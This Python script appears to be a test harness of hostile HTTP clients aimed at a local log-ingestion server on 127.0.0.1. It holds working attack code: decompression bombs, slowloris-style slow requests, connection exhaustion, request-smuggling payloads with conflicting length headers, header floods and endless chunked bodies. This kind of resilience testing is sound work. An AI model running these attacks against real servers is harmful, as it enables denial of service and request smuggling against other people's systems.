"""What hostile clients do: `python attacks.py NAME PORT SECONDS`. Talks to 127.0.0.1 only. Prints JSON of what it did."""

import asyncio
import gzip
import json
import socket
import struct
import sys
import time
import zlib
from collections import Counter

HOST = "127.0.0.1"
POST = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"


def length(data):
    """A field 1 of protobuf, as short as can be."""
    out, size = bytearray(b"\x0a"), len(data)
    while size > 127:
        out.append(size & 127 | 128)
        size >>= 7
    return bytes(out) + bytes((size,)) + data


class Attack:
    """Counts the statuses that it is answered; 0 is a connection that was ended without an answer."""

    def __init__(self, port, seconds, source):
        self.port = port
        self.source = source  # an address of its own: limits per peer are not what ends it
        self.seconds = seconds
        self.end = 0.0
        self.answers = Counter()

    def begin(self):
        """All is prepared: tell, and count from here."""
        print("ready", flush=True)
        self.end = time.monotonic() + self.seconds

    @property
    def on(self):
        return time.monotonic() < self.end

    async def connect(self):
        return await asyncio.open_connection(HOST, self.port, local_addr=(self.source, 0))

    async def hear(self, reader, patience=5.0):
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n"), patience)
            self.answers[int(head.split()[1])] += 1
        except (asyncio.IncompleteReadError, ConnectionError, TimeoutError):
            self.answers[0] += 1

    async def crowd(self, number, one):
        self.begin()
        await asyncio.gather(*(self.again(one) for _ in range(number)))

    async def again(self, one):
        while self.on:
            try:
                await one()
            except (ConnectionError, OSError):
                self.answers[0] += 1
                await asyncio.sleep(0.05)

    async def send(self, data, patience=5.0):
        reader, writer = await self.connect()
        try:
            writer.write(data)
            await self.hear(reader, patience)
        finally:
            writer.transport.abort()

    # --- one by one

    async def zip_bomb(self):
        """A sixteenth of a megabyte that becomes 64, and one in two layers."""
        once = gzip.compress(b"\0" * (64 << 20), 6)
        twice = gzip.compress(once, 6)
        bombs = [POST + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(once) + once,
                 POST + b"content-encoding: gzip, gzip\r\ncontent-length: %d\r\n\r\n" % len(twice) + twice]  # fmt: skip

        async def one():
            for bomb in bombs:
                await self.send(bomb)

        await self.crowd(4, one)

    async def slow_head(self):
        """Two hundred clients, a byte of a header every tenth of a second each."""

        async def one():
            reader, writer = await self.connect()
            writer.write(POST)
            while self.on and not reader.at_eof():
                writer.write(b"x")
                await asyncio.sleep(0.1)
            writer.transport.abort()

        await self.crowd(200, one)

    async def slow_body(self):
        """The same with the body of a request that announces ten megabytes."""

        async def one():
            reader, writer = await self.connect()
            writer.write(POST + b"content-length: 10000000\r\n\r\n")
            while self.on and not reader.at_eof():
                writer.write(b"x")
                await asyncio.sleep(0.1)
            writer.transport.abort()

        await self.crowd(200, one)

    async def idle(self):
        """A thousand connections that say nothing."""
        self.begin()
        writers = []
        for _ in range(1000):
            writers.append((await self.connect())[1])
            if len(writers) % 50 == 0:
                await asyncio.sleep(0.01)
        self.answers["connections"] = len(writers)
        while self.on:
            await asyncio.sleep(0.1)
        for writer in writers:
            writer.transport.abort()

    async def smuggled(self):
        """A request inside another's body, in shapes that two readers would cut differently."""
        inner = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%b"
        evil = b'{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":{"stringValue":"SMUGGLED"}}]}]}]}'
        hidden = inner % (len(evil), evil)
        shapes = [
            b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
            b"transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
            b"transfer-encoding : chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
            b"transfer-encoding: xchunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
            b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n",
            b"content-length: 5\r\ncontent-length: 0\r\n\r\n0\r\n\r\n",
            b"content-length: 0, 5\r\n\r\n0\r\n\r\n",
            b"x: a\rcontent-length: 0\r\ncontent-length: 5\r\n\r\n0\r\n\r\n",
            b"x: a\n\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
            b"transfer-encoding: chunked\r\n\r\n5\r\nhelloX\r\n0\r\n\r\n",
            b"transfer-encoding: chunked\r\n\r\n0\n\n",
        ]

        async def one():
            for shape in shapes:
                await self.send(POST + shape + hidden)
                await asyncio.sleep(0.005)

        await self.crowd(4, one)

    async def header_flood(self):
        """Headers of too many fields, too long, and without end."""
        heads = [POST + b"".join(b"x-%d: y\r\n" % number for number in range(5000)) + b"\r\n",
                 POST + b"x: " + b"y" * 200_000 + b"\r\n\r\n", b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nhost: x\r\n\r\n"]  # fmt: skip

        async def one():
            for head in heads:
                await self.send(head)
                await asyncio.sleep(0.01)

        await self.crowd(8, one)

    async def endless(self):
        """Chunks without end: large ones, tiny ones, extensions, trailers."""
        start = POST + b"transfer-encoding: chunked\r\n\r\n"
        kinds = [(b"", b"10000\r\n" + b"x" * 65_536 + b"\r\n"), (b"", b"1\r\nx\r\n" * 1000), (b"1;", b"x" * 50_000),
                 (b"1\r\nx\r\n0\r\nx: ", b"y" * 50_000)]  # fmt: skip

        async def one():
            for first, more in kinds:
                reader, writer = await self.connect()
                hearing = asyncio.ensure_future(self.hear(reader))
                writer.write(start + first)
                while self.on and not hearing.done():
                    writer.write(more)
                    await writer.drain()
                    await asyncio.sleep(0.001)
                await hearing
                writer.transport.abort()

        await self.crowd(4, one)

    async def half_open(self):
        """Requests that break off: by silence, by closing one side, by a reset; and answers that nobody reads."""

        async def one():
            for how in ("silence", "eof", "reset", "deaf"):
                reader, writer = await self.connect()
                sock = writer.get_extra_info("socket")
                if how == "deaf":
                    writer.transport.pause_reading()
                    writer.write(b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 50)
                else:
                    writer.write(POST + b"content-length: 100000\r\n\r\n" + b"x" * 50_000)
                await asyncio.sleep(0.02)
                if how == "eof":
                    writer.write_eof()
                if how == "reset":
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                if how == "silence":
                    await asyncio.sleep(0.2)
                await asyncio.sleep(0.02)
                self.answers[how] += 1
                writer.transport.abort()

        await self.crowd(50, one)

    async def tiny_parts(self):
        """Megabytes of parts of two bytes, each of which would become an object."""
        groups = zlib.compress(b"\x0a\0" * (8 << 20), 6)
        scopes = gzip.compress(length(b"\x12\0" * (8 << 20)), 6)
        json_ = gzip.compress(b'{"resourceLogs":[' + b"{}," * 1_000_000 + b"{}]}", 6)
        requests = [POST + b"content-encoding: deflate\r\ncontent-length: %d\r\n\r\n" % len(groups) + groups,
                    POST + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(scopes) + scopes,
                    POST.replace(b"x-protobuf", b"json") + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(json_) + json_]  # fmt: skip

        async def one():
            for request in requests:
                await self.send(request, 10)
                await asyncio.sleep(0.2)

        await self.crowd(1, one)


ATTACKS = [
    "zip_bomb",
    "slow_head",
    "slow_body",
    "idle",
    "smuggled",
    "header_flood",
    "endless",
    "half_open",
    "tiny_parts",
]


async def main(name, port, seconds):
    attack = Attack(port, seconds, f"127.0.0.{10 + ATTACKS.index(name)}")
    await getattr(attack, name)()
    print(json.dumps({"attack": name, "answers": attack.answers}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
